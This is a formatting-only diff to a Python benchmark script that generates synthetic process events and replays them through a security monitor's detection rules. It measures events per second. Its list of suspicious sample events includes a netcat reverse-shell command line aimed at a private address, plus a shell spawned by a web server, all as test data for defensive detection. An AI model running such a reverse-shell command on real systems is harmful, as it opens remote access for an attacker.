@@ -29,13 +29,22 @@ from monitor.replay import replay_lines  # noqa: E402
 from monitor.rules import RuleSources, load  # noqa: E402
 from monitor.sinks.stream import StreamSink  # noqa: E402
 
-BENIGN = [("/usr/bin/ls", ["ls", "-la"]), ("/usr/bin/grep", ["grep", "-q", "x", "/etc/hosts"]),
-          ("/usr/bin/cat", ["cat", "/proc/loadavg"]), ("/usr/bin/python3", ["python3", "-c", "pass"]),
-          ("/usr/bin/git", ["git", "status"]), ("/bin/sh", ["sh", "-c", "date"]),
-          ("/usr/bin/bash", ["bash", "-c", "true"]), ("/usr/sbin/sshd", ["sshd", "-D"])]
-SUSPICIOUS = [("/tmp/x", ["x"], "bash", 0), ("/bin/sh", ["sh"], "nginx", 33),
-              ("/usr/bin/nc", ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"], "bash", 0),
-              ("/bin/bash", ["bash"], "cron", 33)]
+BENIGN = [
+    ("/usr/bin/ls", ["ls", "-la"]),
+    ("/usr/bin/grep", ["grep", "-q", "x", "/etc/hosts"]),
+    ("/usr/bin/cat", ["cat", "/proc/loadavg"]),
+    ("/usr/bin/python3", ["python3", "-c", "pass"]),
+    ("/usr/bin/git", ["git", "status"]),
+    ("/bin/sh", ["sh", "-c", "date"]),
+    ("/usr/bin/bash", ["bash", "-c", "true"]),
+    ("/usr/sbin/sshd", ["sshd", "-D"]),
+]
+SUSPICIOUS = [
+    ("/tmp/x", ["x"], "bash", 0),
+    ("/bin/sh", ["sh"], "nginx", 33),
+    ("/usr/bin/nc", ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"], "bash", 0),
+    ("/bin/bash", ["bash"], "cron", 33),
+]
 
 
 def _event(rng: random.Random, i: int, ts: int) -> dict[str, Any]:
@@ -43,13 +52,26 @@ def _event(rng: random.Random, i: int, ts: int) -> dict[str, Any]:
     kind = rng.random()
     parent = rng.choice(["bash", "systemd", "sshd", "containerd-shim", "cron"])
     ev: dict[str, Any] = {
-        "evt.time": "2026-01-01T00:00:00.000000000Z", "evt.ts": ts, "evt.mono_ns": ts,
-        "evt.cpu": i % 2, "proc.pid": pid, "proc.tid": pid, "proc.ppid": pid - 1,
-        "proc.start_ns": ts, "user.uid": 0, "user.name": "root", "group.gid": 0, "cgroup.id": 1,
-        "proc.pname": parent, "proc.pexe": f"/usr/bin/{parent}", "proc.pcmdline": parent,
-        "proc.aname": [parent, "systemd"], "proc.apid": [pid - 1, 1],
+        "evt.time": "2026-01-01T00:00:00.000000000Z",
+        "evt.ts": ts,
+        "evt.mono_ns": ts,
+        "evt.cpu": i % 2,
+        "proc.pid": pid,
+        "proc.tid": pid,
+        "proc.ppid": pid - 1,
+        "proc.start_ns": ts,
+        "user.uid": 0,
+        "user.name": "root",
+        "group.gid": 0,
+        "cgroup.id": 1,
+        "proc.pname": parent,
+        "proc.pexe": f"/usr/bin/{parent}",
+        "proc.pcmdline": parent,
+        "proc.aname": [parent, "systemd"],
+        "proc.apid": [pid - 1, 1],
         "proc.aexe": [f"/usr/bin/{parent}", "/lib/systemd/systemd"],
-        "proc.exec_id": f"b00t:{pid}:{ts}", "proc.pexec_id": f"b00t:{pid - 1}:0",
+        "proc.exec_id": f"b00t:{pid}:{ts}",
+        "proc.pexec_id": f"b00t:{pid - 1}:0",
     }
     if rng.random() < 0.01:
         exe, argv, parent, uid = rng.choice(SUSPICIOUS)
@@ -59,11 +81,24 @@ def _event(rng: random.Random, i: int, ts: int) -> dict[str, Any]:
         exe, argv = rng.choice(BENIGN)
     name = Path(exe).name
     ev["proc.name"] = name
-    ev.update({"proc.exe": exe, "proc.argv": argv, "proc.args": " ".join(argv[1:]),
-               "proc.cmdline": " ".join([name, *argv[1:]])})
+    ev.update(
+        {
+            "proc.exe": exe,
+            "proc.argv": argv,
+            "proc.args": " ".join(argv[1:]),
+            "proc.cmdline": " ".join([name, *argv[1:]]),
+        }
+    )
     if kind < 0.34:
-        ev.update({"evt.type": "execve", "evt.res": 0, "evt.failed": False, "evt.errno": "",
-                   "proc.argv_truncated": False})
+        ev.update(
+            {
+                "evt.type": "execve",
+                "evt.res": 0,
+                "evt.failed": False,
+                "evt.errno": "",
+                "proc.argv_truncated": False,
+            }
+        )
     elif kind < 0.67:
         ev.update({"evt.type": "fork", "proc.child_pid": pid})
     else:
@@ -96,9 +131,14 @@ def measure(path: Path, sources: RuleSources) -> dict[str, Any]:
     return {
         "events_per_s": round(st.events / replay_s),
         "eval_only_events_per_s": round(len(events) / eval_s),
-        "events": st.events, "alerts": st.alerts, "malformed": st.malformed, "matched_eval_only": matched,
-        "rules": len(ruleset.rules), "rule_evaluations": evaluations,
-        "replay_seconds": round(replay_s, 3), "eval_seconds": round(eval_s, 3),
+        "events": st.events,
+        "alerts": st.alerts,
+        "malformed": st.malformed,
+        "matched_eval_only": matched,
+        "rules": len(ruleset.rules),
+        "rule_evaluations": evaluations,
+        "replay_seconds": round(replay_s, 3),
+        "eval_seconds": round(eval_s, 3),
     }
 
 
@@ -117,10 +157,16 @@ def main(argv: list[str] | None = None) -> int:
             generate(path, args.events)
         result = measure(path, sources)
     result["file"] = str(args.file) if args.file else f"generated ({args.events} events)"
-    print(f"replay: {result['events']} events, {result['alerts']} alerts, {result['rules']} rules, "
-          f"{result['rule_evaluations']} rule evaluations", file=sys.stderr)
-    print(f"replay: {result['events_per_s']} events/s end to end (JSON parse + rules + alerts); "
-          f"{result['eval_only_events_per_s']} events/s rules only", file=sys.stderr)
+    print(
+        f"replay: {result['events']} events, {result['alerts']} alerts, {result['rules']} rules, "
+        f"{result['rule_evaluations']} rule evaluations",
+        file=sys.stderr,
+    )
+    print(
+        f"replay: {result['events_per_s']} events/s end to end (JSON parse + rules + alerts); "
+        f"{result['eval_only_events_per_s']} events/s rules only",
+        file=sys.stderr,
+    )
     if args.json:
         args.json.write_text(json.dumps(result, indent=2) + "\n")
     print(json.dumps(result))
